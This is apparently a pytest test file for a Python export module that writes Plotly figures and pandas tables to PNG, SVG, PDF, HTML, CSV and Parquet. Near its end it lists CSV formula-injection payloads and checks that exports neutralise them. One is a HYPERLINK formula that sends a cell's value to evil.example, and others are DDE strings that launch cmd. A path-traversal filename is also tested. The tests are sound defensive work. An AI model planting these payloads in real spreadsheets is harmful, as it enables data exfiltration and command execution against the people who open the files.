"""Exports: figure files carry the right magic bytes, tables round-trip through pandas."""
from __future__ import annotations

import base64
import io
import multiprocessing
import os
import re

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import pytest

from hkd_core import export
from hkd_core.export import (
    EXPORT_FORMATS,
    ExportError,
    codes_frame,
    download_payload,
    figure_bytes,
    find_chrome,
    safe_filename,
    table_bytes,
)

MAGIC = {"png": b"\x89PNG\r\n\x1a\n", "pdf": b"%PDF"}


@pytest.fixture(scope="module")
def chrome():
    """Static export needs Chromium: missing in CI is a failure, missing locally a skip."""
    path = find_chrome()
    if path is None:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("Chromium is required for static export tests in CI (apt-get install chromium)")
        pytest.skip("no Chrome/Chromium found; static export cannot be tested here")
    return path


def scattergl_figure(n: int, seed: int = 0) -> go.Figure:
    rng = np.random.default_rng(seed)
    x, y = rng.normal(size=(2, n))
    return go.Figure(go.Scattergl(x=x, y=y, mode="markers",
                                  marker=dict(color=rng.integers(0, 16, n), colorscale="Viridis", size=6)))


def test_export_formats_constant():
    assert EXPORT_FORMATS == {"figure": ("png", "svg", "pdf", "html"), "table": ("csv", "parquet")}


@pytest.mark.parametrize("fmt", ["png", "pdf", "svg"])
def test_static_figure_magic_bytes(chrome, fmt):
    fig = scattergl_figure(200)
    data = figure_bytes(fig, fmt, width=400, height=300, scale=1)
    if fmt == "svg":
        assert data.lstrip().startswith(b"<svg")
    else:
        assert data.startswith(MAGIC[fmt])


def test_png_size_follows_width_height_and_scale(chrome):
    data = figure_bytes(go.Figure(go.Scatter(x=[0, 1], y=[1, 0])), "png", width=320, height=200, scale=2)
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")  # IHDR
    assert (width, height) == (640, 400)


def test_scattergl_points_are_drawn(chrome):
    """WebGL traces go through Chromium's software GL: points must reach the image."""
    empty = figure_bytes(scattergl_figure(0), "png", width=400, height=300, scale=1)
    drawn = figure_bytes(scattergl_figure(3000), "png", width=400, height=300, scale=1)
    assert drawn.startswith(MAGIC["png"]) and empty.startswith(MAGIC["png"])
    assert len(drawn) > 2 * len(empty)  # thousands of coloured markers compress far worse than a blank plot


def test_dict_figure_from_dash_state(chrome):
    fig_dict = scattergl_figure(50).to_dict()
    fig_dict["data"][0]["x"] = list(fig_dict["data"][0]["x"])  # what dcc.Graph sends back: lists
    fig_dict["data"][0]["y"] = list(fig_dict["data"][0]["y"])
    assert figure_bytes(fig_dict, "svg").lstrip().startswith(b"<svg")


def _child_export(queue):
    try:
        queue.put(figure_bytes(go.Figure(go.Scatter(x=[0, 1], y=[0, 1])), "svg")[:4])
    except Exception as err:  # noqa: BLE001 - reported to the parent
        queue.put(repr(err))


def test_forked_child_exports(chrome):
    """Dash background callbacks fork: a forked child must export (with its own browser)."""
    ctx = multiprocessing.get_context("fork")
    queue = ctx.Queue()
    child = ctx.Process(target=_child_export, args=(queue,))
    child.start()
    child.join(180)
    alive = child.is_alive()
    if alive:
        child.kill()
    assert not alive, "export in a forked child hung"
    assert queue.get(timeout=5) == b"<svg"


def test_html_is_standalone_offline():
    html = figure_bytes(scattergl_figure(100), "html").decode("utf-8")
    assert "<html" in html[:200].lower()
    assert not re.search(r"<script[^>]+src=[\"']https?://", html)  # plotly.js is embedded, no CDN
    assert "Plotly.newPlot" in html or "Plotly.react" in html


def test_missing_chrome_is_a_clear_error_and_html_still_works(monkeypatch):
    monkeypatch.setattr(export, "find_chrome", lambda: None)
    with pytest.raises(ExportError, match="Chromium"):
        figure_bytes(go.Figure(), "png")
    assert b"<html" in figure_bytes(go.Figure(), "html")[:200].lower()


def test_bad_figure_arguments():
    fig = go.Figure()
    with pytest.raises(ValueError, match=r"figure export format must be one of \('png', 'svg', 'pdf', 'html'\)"):
        figure_bytes(fig, "jpg")
    with pytest.raises(ValueError, match="width must be"):
        figure_bytes(fig, "png", width=0)
    with pytest.raises(ValueError, match="scale must be"):
        figure_bytes(fig, "png", scale=-1)
    with pytest.raises(TypeError, match="fig must be"):
        figure_bytes([1, 2], "html")
    assert b"<html>" in figure_bytes(fig, ".HTML")[:100]  # a leading dot and case are forgiven


# --------------------------------------------------------------------------------------- tables

def sample_codes_frame() -> pd.DataFrame:
    codes = np.array([[11, 13, 7], [11, 2, 0], [3, 3, 15]])
    coords = np.array([[0.5, -1.0], [1.5, 2.0], [-0.25, 0.0]])
    return codes_frame(["dog.n.01", "cat.n.01", "emu.n.01"], ["canine", "feline", "bird"], codes, coords)


def test_codes_frame_columns():
    df = sample_codes_frame()
    assert list(df.columns) == ["name", "label", "code", "c1", "c2", "c3", "x", "y"]
    assert df["code"].tolist() == ["11-13-7", "11-2-0", "3-3-15"]
    assert df["c2"].tolist() == [13, 2, 3]
    assert df["y"].tolist() == [-1.0, 2.0, 0.0]
    no_labels = codes_frame(["a", "b"], None, np.zeros((2, 4), dtype=int))
    assert list(no_labels.columns) == ["name", "label", "code", "c1", "c2", "c3", "c4"]
    assert no_labels["label"].tolist() == ["", ""] and no_labels["code"].tolist() == ["0-0-0-0"] * 2


def test_codes_frame_validation():
    with pytest.raises(ValueError, match="codes must be a 2-d array"):
        codes_frame(["a"], None, np.zeros(3, dtype=int))
    with pytest.raises(ValueError, match="names has 1 entries for 2 rows"):
        codes_frame(["a"], None, np.zeros((2, 3), dtype=int))
    with pytest.raises(ValueError, match="labels has 3 entries"):
        codes_frame(["a", "b"], ["x", "y", "z"], np.zeros((2, 3), dtype=int))
    with pytest.raises(ValueError, match=r"coords must have shape \(2, 2\)"):
        codes_frame(["a", "b"], None, np.zeros((2, 3), dtype=int), coords=np.zeros((3, 2)))
    with pytest.raises(ValueError, match="integer digits"):
        codes_frame(["a", "b"], None, np.full((2, 3), 0.5))


def test_table_csv_round_trip():
    df = sample_codes_frame()
    back = pd.read_csv(io.BytesIO(table_bytes(df, "csv")), dtype={"code": str})
    pd.testing.assert_frame_equal(back, df, check_dtype=False)


def test_table_parquet_round_trip():
    df = sample_codes_frame()
    data = table_bytes(df, "parquet")
    assert data[:4] == b"PAR1"
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(data)), df)
    numbered = pd.DataFrame({5: [1, 2], 10: [3, 4]})  # metrics tables are keyed by KNN
    assert list(pd.read_parquet(io.BytesIO(table_bytes(numbered, "parquet"))).columns) == ["5", "10"]


def test_table_bad_arguments():
    with pytest.raises(ValueError, match=r"table export format must be one of \('csv', 'parquet'\)"):
        table_bytes(pd.DataFrame({"a": [1]}), "xlsx")
    with pytest.raises(TypeError, match="df must be a pandas DataFrame"):
        table_bytes({"a": [1]}, "csv")


# ------------------------------------------------------------------------------------ download

def test_download_payload_round_trip():
    data = table_bytes(sample_codes_frame(), "csv")
    payload = download_payload(data, "codes.csv")
    assert payload["base64"] is True and payload["filename"] == "codes.csv" and payload["type"] == "text/csv"
    assert base64.b64decode(payload["content"]) == data
    assert download_payload(b"x", "map.svg")["type"] == "image/svg+xml"
    assert download_payload(b"x", "weird.bin")["type"] == "application/octet-stream"
    with pytest.raises(TypeError, match="data must be bytes"):
        download_payload("text", "a.csv")


def test_safe_filename():
    assert safe_filename("../../etc/passwd") == "passwd"
    assert safe_filename("upload:my data?.csv") == "upload_my_data_.csv"
    assert safe_filename("///") == "export"


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "dog.n.01", "cat\r=1+1"]


def test_csv_neutralises_formula_cells_and_keeps_numbers():
    n = len(HOSTILE_NAMES)
    df = pd.DataFrame({"name": HOSTILE_NAMES, "label": pd.Categorical(["=1+2"] + ["ok"] * (n - 1)),
                       "code": ["11-13-7"] * n, "x": [-1.5] * n, "c1": np.arange(-3, n - 3),
                       "=danger": [None] + ["a"] * (n - 1)})
    text = table_bytes(df, "csv").decode("utf-8")
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert back["name"].tolist()[:6] == ["'" + v for v in HOSTILE_NAMES[:6]]
    assert back["name"].iloc[6] == "dog.n.01"
    assert back["name"].iloc[7] == "cat\r=1+1" and len(back) == n  # quoted: a \r starts no new row
    assert back["label"].tolist()[0] == "'=1+2" and back["code"].iloc[0] == "11-13-7"
    assert list(back.columns)[-1] == "'=danger" and back.iloc[0, -1] == ""
    # numbers stay numbers, negative ones included
    numbers = pd.read_csv(io.StringIO(text))
    assert numbers["x"].tolist() == [-1.5] * n and numbers["c1"].tolist() == list(range(-3, n - 3))
    # no line of the file has a cell beginning a formula
    for row in pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None).itertuples(index=False):
        for cell in row:
            assert not (cell.startswith(("=", "+", "@", "\t", "\r")) or
                        (cell.startswith("-") and not _is_float(cell)))
    # the frame passed in is not modified, and Parquet keeps raw values
    assert df["name"].tolist() == HOSTILE_NAMES
    raw = pd.read_parquet(io.BytesIO(table_bytes(df, "parquet")))
    assert raw["name"].tolist() == HOSTILE_NAMES and "=danger" in raw.columns


def _is_float(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
